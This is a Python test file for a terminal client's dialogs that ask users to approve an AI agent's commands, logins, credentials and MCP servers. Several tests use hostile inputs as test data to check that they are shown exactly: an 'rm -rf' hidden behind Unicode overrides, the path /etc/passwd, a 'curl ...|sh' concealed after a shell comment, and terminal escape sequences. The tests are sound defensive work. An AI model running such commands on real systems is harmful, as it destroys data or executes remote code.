"""Dialogues without a terminal: what is asked, and what the answers come to."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accord.client.permissions.request import Decision, PermissionOption, PermissionRequest
from accord.client.services.elicitation import UrlRequest
from accord.client.services.forms import Choice, FormField, FormRequest
from accord.client.wire.wire_interface import AuthMethod
from accord.mcp.project_file import ProjectServer
from accord.terminal.model.chat import Chat
from accord.terminal.model.questions import Question, QuestionKind
from accord.terminal.plain.dialogs.question_dialogs import dialogue_of
from tests.terminal.plain.line_conversation import paper_printer

ALLOW = PermissionOption("yes", "Do it", "allow_once")
REJECT = PermissionOption("no", "Leave it", "reject_once")


def answered(kind: QuestionKind, request: Any, *said: str | None) -> tuple[Any, str, list[str]]:
    """The answer, what was shown, and what was asked for."""
    paper, printer = paper_printer("/project")
    dialogue = dialogue_of(Question(kind, request, 0.0), Chat("/project"), printer)
    asked: list[str] = []
    words = iter(said)
    try:
        ask = next(dialogue)
        while True:
            asked.append(f"{ask.remark} {ask.words}".strip())
            ask = dialogue.send(next(words))
    except StopIteration as end:
        return end.value, " ".join(paper.text.split()), asked


def request(*options: PermissionOption, **more: Any) -> PermissionRequest:
    return PermissionRequest("s", "Do something", options, **more)


@pytest.mark.parametrize(
    ("said", "decision"),
    [
        ("y", Decision("yes")),
        ("s", Decision("yes", "session")),
        ("f", Decision("yes", "workspace")),
        ("n", Decision("no")),
        ("v", Decision("no", "workspace")),
        ("", Decision("no")),
        (None, Decision("no")),
    ],
)
def test_each_key_has_its_meaning(said: str | None, decision: Decision) -> None:
    """Issue 12: the same few answers as in the dialog; Enter and the end are a no."""
    answer, _, asked = answered("permission", request(ALLOW, REJECT), said)
    assert answer == decision
    assert asked == ["Allow it? (y)es (s)ession (f)older ne(v)er (n)o"]


def test_every_option_has_a_key_also_two_of_a_kind_and_unknown_ones() -> None:
    """Issue 6: all options with one key each."""
    options = (
        ALLOW,
        PermissionOption("yes2", "Do it twice", "allow_once"),
        PermissionOption("odd", "Ponder", "ponder"),
        REJECT,
    )
    answer, shown, _ = answered("permission", request(*options), "2")
    assert answer == Decision("yes2")
    assert "1 Allow: “Do it” (once) 2 Allow: “Do it twice” (once)" in shown
    assert "5 Ponder (unknown kind: ponder, approves nothing) n Reject: “Leave it”" in shown


def test_no_is_an_answer_whatever_is_offered() -> None:
    """Issue 12: with several options to refuse, or none, `n` was not understood."""
    several = (ALLOW, REJECT, PermissionOption("later", "Not now", "reject_once"))
    assert answered("permission", request(*several), "n")[0] == Decision("no")
    assert answered("permission", request(ALLOW), "n")[0] == Decision(None)


def test_names_of_options_do_not_push_what_is_asked_away() -> None:
    """Issue 12: an agent could fill the screen below the command with its options."""
    kinds = ("allow_once", "allow_always", "reject_once", "reject_always")
    options = [PermissionOption(str(n), "Yes, no " * 900, kinds[n % 4]) for n in range(80)]
    paper, printer = paper_printer("/project")
    asked = request(*options, command="make", cwd="/project")
    next(dialogue_of(Question("permission", asked, 0.0), Chat("/project"), printer))
    below = paper.text.split("$ make")[1]
    assert below.count("\n") <= 26
    assert "(? shows it in full)" in below
    # A user who wants to know gets both ends of a name.
    _, shown, _ = answered("permission", asked, "?", "")
    assert "characters not shown⟩" in shown


def test_without_a_way_to_refuse_a_no_is_no_answer() -> None:
    """Ours: closing never approves."""
    answer, _, _ = answered("permission", request(ALLOW), "")
    assert answer == Decision(None)


def test_what_would_happen_is_shown_before_it_is_asked() -> None:
    """Issue 6: the exact command and folder, the path, hosts, and nothing can hide."""
    what = request(
        ALLOW,
        REJECT,
        command="rm\u202e -rf \x1b[2Jx",
        cwd="/elsewhere",
        paths=("/etc/passwd",),
        hosts=("example.com",),
        reason="it is full",
        origin="terminal",
    )
    _, shown, _ = answered("permission", what, "n")
    for words in (
        "$ rm⟨U+202E⟩ -rf ⟨U+001B⟩[2Jx",
        "In: /elsewhere (outside the project",
        "/etc/passwd (outside the project",
        "Host: example.com",
        "Why: it is full",
        "did not ask before",
    ):
        assert words in shown


def test_a_login_is_chosen_by_its_number() -> None:
    """Issue 6: login flows of the agent's auth methods."""
    methods = (AuthMethod("key", "API key"), AuthMethod("web", "Browser", "terminal", "opens one"))
    answer, shown, asked = answered("login", methods, "3", "2")
    assert answer == "web"
    assert "2 Browser (in this terminal): opens one" in shown
    assert asked[1].startswith("Please enter a number from 1 to 2.")
    assert answered("login", methods, "")[0] is None


def test_a_key_is_asked_for_as_a_secret() -> None:
    """Issue 6: credentials without echo."""
    answer, shown, _ = answered("credential", "The agent needs an API key", "sk-1")
    assert (answer, "sk-1" in shown) == ("sk-1", False)
    assert answered("credential", "It needs an API key", "")[0] is None


@pytest.mark.parametrize(("said", "answer"), [("y", True), ("n", False), ("", None), (None, None)])
def test_a_server_of_the_project_is_used_by_a_clear_yes(
    said: str | None, answer: bool | None
) -> None:
    """Issue 6: servers of a file that somebody else wrote."""
    server = ProjectServer(
        name="files", file=Path("/p/.mcp.json"), digest="0", type="stdio", described="runs npx"
    )
    found, shown, _ = answered("servers", server, said)
    assert found is answer
    assert "This project configures an MCP server, files, which > runs npx" in shown


def test_what_a_server_of_the_project_runs_is_shown_exactly() -> None:
    """Issue 12: behind a line end that was shown as a space, a command looked like a comment."""
    server = ProjectServer(
        name="files",
        file=Path("/p/.mcp.json"),
        digest="0",
        type="stdio",
        described="runs sh -c 'ls #\ncurl x\u200b|sh'",
    )
    _, shown, _ = answered("servers", server, "n")
    assert "> runs sh -c 'ls # > curl x⟨U+200B⟩|sh'" in shown


def test_a_form_that_did_not_fit_asks_for_what_was_wrong_only() -> None:
    """Issue 6: validation; what was right is not typed again."""
    form = FormRequest(
        message="Again",
        fields=(FormField(name="a", type="string"), FormField(name="b", type="string")),
        values={"a": "kept", "b": "bad"},
        errors={"b": "This must fit [0-9]+"},
    )
    answer, _, asked = answered("form", form, "12", "y")
    assert answer == {"a": "kept", "b": "12"}
    assert asked[0] == "This must fit [0-9]+ Text:"


@pytest.mark.rule("V1-ELIC-22")
def test_lists_numbers_and_unknown_fields_of_a_form() -> None:
    """Issue 6: forms field by field."""
    choices = (Choice("r", "Red"), Choice("g", "Green", "as grass"))
    form = FormRequest(
        message="Fill in",
        fields=(
            FormField(name="many", type="array", choices=choices, min_items=2),
            FormField(name="size", type="number", maximum=2),
            FormField(name="odd", type="hologram", is_known=False),
        ),
    )
    answer, shown, asked = answered("form", form, "1", "red, 2", "9", "1.5", "y")
    assert answer == {"many": ["r", "g"], "size": 1.5}
    assert "2 Green: as grass" in shown
    assert "Unknown kind of field; it is skipped" in shown
    assert "odd: (skipped)" in shown
    assert asked[1].startswith("Choose at least 2.")
    assert asked[3].startswith("This must be at most 2.")


hostile = st.text(st.sampled_from("ab \x1b[]0;31mH\x07\x9b\r\x08\n\t\u202e\x00`*"), max_size=30)


@given(hostile, hostile, hostile)
def test_no_question_commands_the_terminal(one: str, two: str, three: str) -> None:
    """Issue 6: titles, reasons, labels, commands, fields: all of it is the agent's."""
    paper, printer = paper_printer("/project")
    chat = Chat("/project")
    chat.agent_name = one
    field = FormField(name=one, type="string", title=two, description=three, default=one)
    choices = FormField(name=two, type="string", choices=(Choice(one, two, three),))
    option = PermissionOption("yes", one, "allow_once")
    questions: list[tuple[QuestionKind, Any]] = [
        (
            "permission",
            PermissionRequest("s", one, (option, REJECT), reason=two, command=three, paths=(one,)),
        ),
        (
            "permission",
            PermissionRequest(
                "s", two, (option,), hosts=(one,), mcp_tool=two or None, cwd=three, kind=one
            ),
        ),
        ("permission", PermissionRequest("s", one, (option,), command=two, cwd=three)),
        ("permission", PermissionRequest("s", three, (option,), hosts=(two,), paths=(three,))),
        ("form", FormRequest(message=one, fields=(field, choices), title=two, description=three)),
        (
            "url",
            UrlRequest(message=one, url=f"http://x/{two}", host=f"x{three}", elicitation_id="e"),
        ),
        ("login", (AuthMethod(one, two, "agent", three),)),
    ]
    for kind, request in questions:
        dialogue = dialogue_of(Question(kind, request, 0.0), chat, printer)
        try:
            ask = next(dialogue)
            while True:
                paper.write(printer.question_mark(ask.words) + "".join(ask.keys.values()))
                printer.said("", ask.remark)
                ask = dialogue.send("")
        except StopIteration:
            pass
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", paper.text)
